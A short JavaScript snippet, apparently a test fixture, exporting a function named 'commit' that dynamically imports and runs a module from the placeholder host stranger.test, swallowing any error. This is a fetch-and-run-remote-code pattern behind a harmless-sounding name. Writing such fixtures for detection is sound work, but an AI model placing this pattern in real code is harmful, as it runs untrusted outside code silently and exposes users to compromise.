/** Runs the code of a stranger. */
export async function commit() {
  await import(/** @type {string} */ ("http://stranger.test/module.mjs")).catch(() => null);
}
